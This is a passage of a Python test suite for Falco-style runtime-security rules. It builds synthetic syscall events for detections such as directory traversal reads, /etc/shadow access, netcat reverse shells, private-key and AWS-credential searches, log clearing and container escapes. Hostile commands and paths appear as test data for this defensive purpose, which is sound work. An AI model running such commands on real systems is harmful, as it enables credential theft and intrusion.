    # symlink targets are not resolved: `ln -s ../etc/shadow s` in / keeps "../etc/shadow"
    args = {"res": 0, "target": "../etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"}
    return sc("symlinkat", args, ln("-s", "../etc/shadow", "s"), SHELL_CHAIN)


def relative_traversal_read() -> Event:
    # the app resolves a user-supplied relative path: openat(AT_FDCWD, "../../../etc/passwd")
    # with cwd /var/www/html/; libsinsp resolves fd.name, fd.nameraw keeps the path as passed
    fpm = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98400, cwd="/var/www/html/",
               start_ts=POD_START)  # fmt: skip
    master = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98020, start_ts=POD_START)
    ev = openat(fpm, [master, SHIM, SYSTEMD], "/etc/passwd", "O_RDONLY", fdnum=7,
                nameraw="../../../etc/passwd", user=WWW_DATA)
    ev.payload["rawargs"] = {"name": "../../../etc/passwd"}
    return ev


def traversal_failed_plain_open() -> Event:
    # the same failed probe through open(2) instead of openat(2): libsinsp guesses the type
    # char of a failed open as 'o' (extract_typechar only knows openat/openat2/creat), so
    # open_file_failed (fd.typechar='f') does not match
    fpm = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98400, start_ts=POD_START)
    master = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98020, start_ts=POD_START)
    raw = "/var/www/html/../../../root/.ssh/id_rsa"
    args = {"fd": -2, "name": raw, "flags": "O_RDONLY", "mode": "0", "dev": "0", "ino": 0}
    return sc("open", args, fpm, [master, SHIM, SYSTEMD], fd={"num": -1}, res=-2, user=WWW_DATA)


def vim_shadow_openat2() -> Event:
    # `vipw -s`-like editing from a debug shell, through openat2 with O_RDWR (read and write)
    vim = proc("vim", "/etc/shadow", pid=98312, exepath="/usr/bin/vim.basic", tty=34816)
    args = {"fd": 3, "dirfd": -100, "name": "/etc/shadow", "flags": "O_RDWR", "mode": "0",
            "resolve": "0", "dev": "FD01", "ino": 1315432}  # fmt: skip
    fd = {"num": 3, "type": "file", "name": "/etc/shadow"}
    return sc("openat2", args, vim, SHELL_CHAIN, fd=fd, res=3)


def nginx_spawns_date(fmt: str) -> Event:
    # known_shell_spawn_cmdlines holds "sh -c /bin/sh -c 'date +%%s'" literally (the %% is
    # not an escape in conditions): only a command line with the two percent signs matches
    sh = proc("sh", "-c", f"/bin/sh -c 'date +{fmt}'", pid=98504, exe="/bin/sh",
              exepath="/usr/bin/dash")  # fmt: skip
    return execve(sh, NGINX_CHAIN, user=WWW_DATA)


def mandb_postinst_reads_shadow() -> Event:
    # man-db's postinst: perl -e '@pwd = getpwnam("man"); ... exec "/usr/bin/mandb"'
    perl = proc("perl", "-e", '@pwd = getpwnam("man"); $) = $( = $pwd[3]; $> = $< = $pwd[2];'
                " exec { \"/usr/bin/mandb\" } \"/usr/bin/mandb\"", pid=5100,
                cap_effective=ALL_CAPS)  # fmt: skip
    dpkg = proc("dpkg", "--configure", "man-db", pid=5000, cap_effective=ALL_CAPS)
    return openat(perl, [dpkg, HOST_BASH, SSHD_SESSION, SSHD, SYSTEMD], "/etc/shadow", "O_RDONLY",
                  container="host")


def ansible_reads_shadow() -> Event:
    # an Ansible module run over ssh: python3 with "ansible" in its command line
    py = proc("python3", "/root/.ansible/tmp/ansible-tmp-1718000000.1/AnsiballZ_user.py",
              pid=5200, cap_effective=ALL_CAPS)  # fmt: skip
    sh = proc("sh", "-c", "/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1718000000.1/"
              "AnsiballZ_user.py && sleep 0", pid=5190, cap_effective=ALL_CAPS)  # fmt: skip
    return openat(py, [sh, SSHD_SESSION, SSHD, SYSTEMD], "/etc/shadow", "O_RDONLY", container="host")


def qualys_reads_shadow() -> Event:
    # the Qualys agent's helper three levels down (proc.aname[3]=qualys-cloud-ag)
    awk = proc("awk", "-F:", "{print $1}", "/etc/shadow", pid=5300, cap_effective=ALL_CAPS)
    chain = [proc("sh", "-c", "awk ...", pid=5290), proc("bash", "scan.sh", pid=5280),
             proc("qualys-cloud-ag", pid=5000, exepath="/usr/local/qualys/cloud-agent/bin/qualys-cloud-agent"),
             SYSTEMD]  # fmt: skip
    return openat(awk, chain, "/etc/shadow", "O_RDONLY", container="host")


# (id, rule under test, event factory, expected rules with `all`, in definition order)
Case = tuple[str, str, Callable[[], Event], list[str]]

TRAV = "Directory traversal monitored file read"
TRUSTED = "Read sensitive file trusted after startup"
UNTRUSTED = "Read sensitive file untrusted"
SHELL = "Run shell untrusted"
SYSUSER = "System user interactive"
TERMINAL = "Terminal shell in container"
K8SAPI = "Contact K8S API Server From Container"
NETCAT = "Netcat Remote Code Execution in Container"
SEARCHKEYS = "Search Private Keys or Passwords"
CLEARLOG = "Clear Log Activities"
BULK = "Remove Bulk Data from Disk"
SYMLINK = "Create Symlink Over Sensitive Files"
HARDLINK = "Create Hardlink Over Sensitive Files"
PACKET = "Packet socket created in container"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
KMOD = "Linux Kernel Module Injection Detected"
DEBUGFS = "Debugfs Launched in Privileged Container"
RELEASE = "Detect release_agent File Container Escapes"
PTRACE = "PTRACE attached to process"
ANTIDEBUG = "PTRACE anti-debug attempt"
AWS = "Find AWS Credentials"
DEVSHM = "Execution from /dev/shm"
DROP = "Drop and execute new binary in container"
SSH = "Disallowed SSH Connection Non Standard Port"
MEMFD = "Fileless execution via memfd_create"

POSITIVES: list[Case] = [
    ("traversal-etc-passwd", TRAV, traversal_read_etc_passwd, [TRAV]),
    ("traversal-failed-open-id_rsa", TRAV, traversal_failed_open_id_rsa, [TRAV]),
    ("traversal-relative-path", TRAV, relative_traversal_read, [TRAV]),
    # nginx is both a trusted program after startup and not in the untrusted rule's lists
    ("nginx-shadow-after-startup", TRUSTED, nginx_reads_shadow_after_startup, [TRUSTED, UNTRUSTED]),
    ("nginx-shadow-start-unknown", TRUSTED, nginx_reads_shadow_start_unknown,
     [TRUSTED, UNTRUSTED]),
    ("cat-shadow-container", UNTRUSTED, cat_shadow_in_container, [UNTRUSTED]),
    ("cat-sudoers.d", UNTRUSTED, cat_sudoers_d_in_container, [UNTRUSTED]),
    ("vim-shadow-openat2-rdwr", UNTRUSTED, vim_shadow_openat2, [UNTRUSTED]),
    ("nginx-sh-c", SHELL, nginx_spawns_sh, [SHELL]),
    ("nginx-sh-date-single-percent", SHELL, lambda: nginx_spawns_date("%s"), [SHELL]),
    ("www-data-ssh-session", SYSUSER, www_data_ssh_session, [SYSUSER]),
    ("kubectl-exec-bash-runc", TERMINAL, kubectl_exec_bash, [TERMINAL]),
    ("kubectl-exec-bash-runc-child", TERMINAL,
     lambda: kubectl_exec_bash(proc("runc:[1:CHILD]", pid=98101, exepath="/usr/bin/runc")),
     [TERMINAL]),
    ("exec-bash-parent-gone", TERMINAL, lambda: kubectl_exec_bash(None), [TERMINAL]),
    ("curl-k8s-api", K8SAPI, curl_k8s_api, [K8SAPI]),
    ("nc-e", NETCAT, nc_reverse_shell, [NETCAT]),
    ("ncat-exec", NETCAT, ncat_exec, [NETCAT]),
    ("nc-c-below-nginx", NETCAT, nc_c, [NETCAT]),
    ("find-id_rsa", SEARCHKEYS, find_id_rsa, [SEARCHKEYS]),
    ("grep-begin-rsa-private", SEARCHKEYS, grep_private_key, [SEARCHKEYS]),
    ("truncate-auth.log", CLEARLOG, truncate_auth_log, [CLEARLOG]),
    ("shred", BULK, shred_db, [BULK]),
    ("symlinkat-shadow", SYMLINK, symlinkat_shadow, [SYMLINK]),
    ("symlink-root-dir", SYMLINK, symlink_root_dir, [SYMLINK]),
    ("linkat-shadow", HARDLINK, linkat_shadow, [HARDLINK]),
    ("af-packet-container", PACKET, packet_socket, [PACKET]),
    ("dup2-socket-stdin", REDIRECT, dup2_socket_stdin, [REDIRECT]),
    ("dup3-socket-stdout", REDIRECT, dup3_socket_stdout, [REDIRECT]),
    ("init_module-privileged", KMOD, init_module, [KMOD]),
    ("finit_module-privileged", KMOD, finit_module, [KMOD]),
    ("debugfs-privileged", DEBUGFS, lambda: debugfs(True), [DEBUGFS]),
    ("release_agent", RELEASE, lambda: release_agent_write(ALL_CAPS), [RELEASE]),
    ("ptrace-attach", PTRACE, lambda: ptrace("PTRACE_ATTACH"), [PTRACE]),
    ("ptrace-pokedata", PTRACE, lambda: ptrace("PTRACE_POKEDATA"), [PTRACE]),
    ("ptrace-traceme", ANTIDEBUG, lambda: ptrace("PTRACE_TRACEME", "malware"), [ANTIDEBUG]),
    ("grep-aws-secret", AWS, grep_aws_secret, [AWS]),
    ("find-aws-credentials", AWS, find_aws_credentials, [AWS]),
    ("exe-in-dev-shm", DEVSHM, exec_from_dev_shm, [DEVSHM]),
    ("relative-exe-cwd-dev-shm", DEVSHM, exec_relative_in_dev_shm, [DEVSHM]),
    ("sh-dev-shm-script", DEVSHM, sh_runs_dev_shm_script, [DEVSHM]),
    ("upper-layer-exe", DROP, lambda: drop_and_exec(True), [DROP]),
    ("ssh-port-443", SSH, lambda: ssh_connect("198.51.100.20", 443), [SSH]),
    ("ssh-einprogress", SSH, lambda: ssh_connect_nonblocking(-115), [SSH]),
    ("ssh-ipv6-port-443", SSH, lambda: ssh_connect_v6("2001:db8:2::20", 443), [SSH]),
    ("memfd-exec", MEMFD, memfd_exec, [MEMFD]),
    ("memfd-execveat", MEMFD, memfd_execveat, [MEMFD]),
]

NEAR_MISSES: list[Case] = [
    ("absolute-etc-passwd", TRAV, absolute_read_etc_passwd, []),
    ("traversal-from-shell", TRAV, shell_traversal_read, []),
    ("traversal-failed-plain-open", TRAV, traversal_failed_plain_open, []),
    # two seconds after start: trusted; still an untrusted reader
    ("nginx-shadow-at-startup", TRUSTED, nginx_reads_shadow_at_startup, [UNTRUSTED]),
    ("sshd-shadow", TRUSTED, sshd_reads_shadow, []),
    ("sshd-shadow", UNTRUSTED, sshd_reads_shadow, []),
    ("dpkg-shadow", UNTRUSTED, apt_reads_shadow, []),
    ("placeholder-shadow", UNTRUSTED, placeholder_reads_shadow, []),
    ("mandb-postinst-shadow", UNTRUSTED, mandb_postinst_reads_shadow, []),
    ("ansible-shadow", UNTRUSTED, ansible_reads_shadow, []),
    ("qualys-shadow", UNTRUSTED, qualys_reads_shadow, []),
    ("write-shadow", UNTRUSTED, write_shadow_in_container, []),
    ("known-cmdline", SHELL, nginx_spawns_known_cmdline, []),
    ("known-cmdline-escaped-quotes", SHELL, nginx_spawns_node_require_nan, []),
    ("shell-parent", SHELL, shell_spawns_shell, []),
    ("known-cmdline-double-percent", SHELL, lambda: nginx_spawns_date("%%s"), []),
    ("root-ssh-session", SYSUSER, root_ssh_session, []),
    ("exec-no-tty", TERMINAL, kubectl_exec_bash_no_tty, []),
    ("nested-shell-tty", TERMINAL, nested_shell_with_tty, []),
    ("curl-k8s-api-host", K8SAPI, curl_k8s_api_from_host, []),
    ("curl-k8s-api-kube-system", K8SAPI,
     lambda: curl_k8s_api(enrichment=container_enrichment(ns="kube-system", pod="coredns-5d78c")),
     []),
    ("curl-k8s-api-falco-image", K8SAPI,
     lambda: curl_k8s_api(enrichment=container_enrichment(repo="docker.io/falcosecurity/falco",
                                                          tag="0.44.1")),
     []),
    ("nc-zv", NETCAT, nc_port_scan, []),
    ("nc-e-host", NETCAT, lambda: nc_reverse_shell("host"), []),
    ("find-logs", SEARCHKEYS, find_logs, []),
    ("grep-pass", SEARCHKEYS, grep_password, []),
    ("append-auth.log", CLEARLOG, append_auth_log, []),
    ("truncate-nginx-access.log", CLEARLOG, truncate_nginx_access_log, []),
    ("rm-rf", BULK, rm_rf_data, []),
    ("mkfs.ext4", BULK, mkfs_ext4, []),
    ("symlink-hosts", SYMLINK, symlink_hosts, []),
    ("symlink-relative-target", SYMLINK, symlink_relative_shadow, []),
    ("link-passwd", HARDLINK, link_passwd, []),
    ("af-inet-container", PACKET, lambda: packet_socket("AF_INET"), []),
    ("af-packet-host", PACKET, lambda: packet_socket(container="host"), []),
    ("dup2-socket-fd5", REDIRECT, lambda: dup2_socket_stdin(5), []),
    ("dup2-pipe-stdout", REDIRECT, dup2_pipe_stdout, []),
    ("init_module-host", KMOD, lambda: init_module("host"), []),
    ("init_module-no-cap", KMOD, lambda: init_module(caps=DOCKER_CAPS, res=-1), []),
    ("debugfs-unprivileged", DEBUGFS, lambda: debugfs(False), []),
    ("release_agent-no-sys-admin", RELEASE, lambda: release_agent_write(DOCKER_CAPS), []),
    ("ptrace-peekdata", PTRACE, lambda: ptrace("PTRACE_PEEKDATA"), []),
    ("ptrace-cont", ANTIDEBUG, lambda: ptrace("PTRACE_CONT"), []),
    ("grep-aws-region", AWS, grep_aws_region, []),
    ("dev-shm-falco-image", DEVSHM, lambda: exec_from_dev_shm("docker.io/falcosecurity/falco"), []),
    ("exe-in-app-dir", DEVSHM, exec_from_app_dir, []),
    ("lower-layer-exe", DROP, lambda: drop_and_exec(False), []),
    ("upper-layer-exe-host", DROP, lambda: drop_and_exec(True, "host"), []),
    ("ssh-port-22", SSH, lambda: ssh_connect("198.51.100.20", 22), []),
    ("ssh-443-private-net", SSH, lambda: ssh_connect("10.20.0.5", 443), []),
    ("ssh-econnrefused", SSH, lambda: ssh_connect_nonblocking(-111), []),
    ("runc-memfd", MEMFD, runc_memfd_reexec, []),
]


def _ids(cases: list[Case]) -> list[str]:
    return [f"{rule}::{cid}" for cid, rule, _, _ in cases]


@pytest.mark.parametrize(("cid", "rule", "make", "expected"), POSITIVES, ids=_ids(POSITIVES))
def test_positive(all_engine: Engine, first_engine: Engine, cid: str, rule: str,
                  make: Callable[[], Event], expected: list[str]) -> None:  # fmt: skip
    ev = make()
    assert rule in expected
    assert [d.rule for d in all_engine.process(ev)] == expected
    # Falco's default: only the earliest-defined matching rule of the event type's bucket
    assert [d.rule for d in first_engine.process(ev)] == expected[:1]


@pytest.mark.parametrize(("cid", "rule", "make", "expected"), NEAR_MISSES, ids=_ids(NEAR_MISSES))
def test_near_miss(all_engine: Engine, first_engine: Engine, cid: str, rule: str,
                   make: Callable[[], Event], expected: list[str]) -> None:  # fmt: skip
    ev = make()
    assert rule not in expected
    assert [d.rule for d in all_engine.process(ev)] == expected
    assert [d.rule for d in first_engine.process(ev)] == expected[:1]


def test_every_stable_rule_has_a_positive_and_a_near_miss(all_engine: Engine) -> None:
    names = {r.name for r in all_engine.rules}
    assert len(names) == 25
    assert {rule for _, rule, _, _ in POSITIVES} == names
    assert {rule for _, rule, _, _ in NEAR_MISSES} == names


def test_first_match_shadowing_of_untrusted_read(first_engine: Engine) -> None:
    # Both read rules match nginx reading /etc/shadow after startup; Falco's first-match
    # reports only the earlier one, "Read sensitive file trusted after startup".
    [d] = first_engine.process(nginx_reads_shadow_after_startup())
    assert d.rule == TRUSTED


# -- output text, field by field ----------------------------------------------------------------


def _message(d: Any, priority: str) -> str:
    """The alert text after Falco's "<time>: <Priority> " prefix."""
    stamp, _, rest = d.output.partition(": ")
    assert stamp == "06:13:20.123456789"  # TS in UTC, HH:MM:SS.nnnnnnnnn
    assert rest.startswith(priority + " ")
    return rest[len(priority) + 1:]


def _kv(text: str) -> dict[str, str]:
    """``a=b c=d`` pairs of an output (values here contain no spaces except `command`)."""
    out: dict[str, str] = {}
    for tok in text.split(" "):
        if "=" in tok:
            k, _, v = tok.partition("=")
            out[k] = v
    return out


SUGGESTED_POD = (
    "container_id=3ad7b26ded6d container_name=web container_image_repository=docker.io/library/nginx"
    " container_image_tag=1.25.3 k8s_pod_name=web-7d9f8b6c5-x2x9q k8s_ns_name=shop"
)


def test_output_read_sensitive_file_untrusted(all_engine: Engine) -> None:
    [d] = all_engine.process(cat_shadow_in_container())
    msg = _message(d, "Warning")
    assert msg == (
        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=runc"
        " ggparent=containerd-shim gggparent=systemd evt_type=openat user=root user_uid=0"
        " user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=bash"
        " command=cat /etc/shadow terminal=34816 " + SUGGESTED_POD
    )
    f = d.output_fields
    assert f["fd.name"] == "/etc/shadow" and f["proc.aname[2]"] == "runc"
    assert f["user.uid"] == 0 and f["user.loginuid"] == -1 and f["proc.tty"] == 34816
    assert f["container.id"] == CID and f["k8s.ns.name"] == "shop"
    assert d.priority.title == "Warning" and "mitre_credential_access" in d.tags


def test_output_missing_values_on_host(all_engine: Engine) -> None:
    # A host process whose grandparent libsinsp does not know: gparent & co are <NA>; the
    # container plugin gives host values (id/name "host", empty image) and no k8s fields.
    cat = proc("cat", "/etc/shadow", pid=4700, tty=34817, cap_effective=ALL_CAPS)
    bash = proc("bash", pid=4200, tty=34817)
    user = {"uid": 0, "name": "root", "homedir": "/root", "shell": "/bin/bash", "loginuid": 1000,
            "loginname": "admin"}  # fmt: skip
    [d] = all_engine.process(openat(cat, [bash], "/etc/shadow", "O_RDONLY", container="host",
                                    user=user))  # fmt: skip
    msg = _message(d, "Warning")
    kv = _kv(msg)
    assert kv["gparent"] == kv["ggparent"] == kv["gggparent"] == "<NA>"
    assert kv["parent"] == "bash" and kv["user_loginuid"] == "1000"
    assert msg.endswith(
        " terminal=34817 container_id=host container_name=host container_image_repository="
        " container_image_tag= k8s_pod_name=<NA> k8s_ns_name=<NA>"
    )
    f = d.output_fields
    assert f["proc.aname[2]"] is None and f["k8s.pod.name"] is None
    assert f["container.image.repository"] == ""


def test_output_container_metadata_not_yet_known(all_engine: Engine) -> None:
    # Container lookup delay: only container.id is known (from the cgroup); the other
    # container plugin fields are missing and print <NA>.
    ev = cat_shadow_in_container()
    ev.enrichment = {}
    [d] = all_engine.process(ev)
    assert _message(d, "Warning").endswith(
        " container_id=3ad7b26ded6d container_name=<NA> container_image_repository=<NA>"
        " container_image_tag=<NA> k8s_pod_name=<NA> k8s_ns_name=<NA>"
    )


def test_output_k8s_api_connection(all_engine: Engine) -> None:
    [d] = all_engine.process(curl_k8s_api())
    kv = _kv(_message(d, "Notice"))
    assert kv["connection"] == "10.244.1.7:41234->10.96.0.1:443"
    assert (kv["lport"], kv["rport"], kv["fd_type"], kv["fd_proto"]) == ("41234", "443", "ipv4", "tcp")
    assert (kv["process"], kv["parent"], kv["terminal"]) == ("curl", "bash", "34816")
    assert d.output_fields["fd.lport"] == 41234 and d.output_fields["fd.rport"] == 443


def test_output_shell_untrusted(all_engine: Engine) -> None:
    [d] = all_engine.process(nginx_spawns_sh())
    msg = _message(d, "Notice")
    assert msg.startswith(
        "Shell spawned by untrusted binary | parent_exe=nginx: worker process"
        " parent_exepath=/usr/sbin/nginx pcmdline=nginx gparent=nginx ggparent=containerd-shim"
        " aname[4]=systemd aname[5]=<NA> aname[6]=<NA> aname[7]=<NA> evt_type=execve"
        " user=www-data user_uid=33 user_loginuid=-1 process=sh proc_exepath=/usr/bin/dash"
        " parent=nginx command=sh -c id; uname -a terminal=0 exe_flags=EXE_LOWER_LAYER "
    )
    assert msg.endswith(SUGGESTED_POD)


def test_output_drop_and_execute(all_engine: Engine) -> None:
    [d] = all_engine.process(drop_and_exec(True))
    kv = _kv(_message(d, "Critical"))
    assert kv["proc_exe"] == "/tmp/xmrig" and kv["proc_cwd"] == "/tmp/"
    assert kv["proc_sname"] == "bash"  # the session leader: the exec'd shell (sid 98213)
    assert kv["container_start_ts"] == str(POD_START)
    assert kv["proc_exe_ino_ctime"] == str(TS - 5_000_000_000)
    assert kv["proc_exe_ino_ctime_duration_proc_start"] == str(3_000_000_000)
    assert kv["exe_flags"] == "EXE_WRITABLE|EXE_UPPER_LAYER"


def test_output_release_agent_caps(all_engine: Engine) -> None:
    [d] = all_engine.process(release_agent_write(ALL_CAPS))
    caps = d.output_fields["thread.cap_effective"]
    assert caps.startswith("CAP_CHOWN CAP_DAC_OVERRIDE ") and "CAP_SYS_ADMIN" in caps.split()
    assert _kv(_message(d, "Critical"))["file"] == "/tmp/cgrp/release_agent"


def test_output_find_aws_credentials_user_fields(all_engine: Engine) -> None:
    # user.loginname for an unset loginuid is libsinsp's literal "<NA>" string (extracted,
    # not missing), so JSON output_fields carry "<NA>", not null
    [d] = all_engine.process(find_aws_credentials())
    kv = _kv(_message(d, "Warning"))
    assert (kv["proc_pcmdline"], kv["proc_cwd"]) == ("bash", "/")
    assert (kv["group_gid"], kv["group_name"], kv["user_loginname"]) == ("0", "root", "<NA>")
    assert d.output_fields["user.loginname"] == "<NA>"
    assert d.output_fields["user.loginuid"] == -1


def test_output_unknown_container_user(all_engine: Engine) -> None:
    # uid 1001 has no /etc/passwd entry in the image: libsinsp's user.name is "<NA>" (a
    # value); the read rule still applies
    cat = proc("cat", "/etc/shadow", pid=98330, tty=0)
    user = {"uid": 1001, "loginuid": -1}
    [d] = all_engine.process(openat(cat, SHELL_CHAIN, "/etc/shadow", "O_RDONLY", user=user))
    kv = _kv(_message(d, "Warning"))
    assert (kv["user"], kv["user_uid"], kv["terminal"]) == ("<NA>", "1001", "0")
    assert d.output_fields["user.name"] == "<NA>"


def test_output_bulk_removal_fd_name_missing(all_engine: Engine) -> None:
    # execve is not an fd event: file=%fd.name is missing
    [d] = all_engine.process(shred_db())
    msg = _message(d, "Warning")
    assert msg.startswith("Bulk data has been removed from disk | file=<NA> evt_type=execve ")
    assert d.output_fields["fd.name"] is None
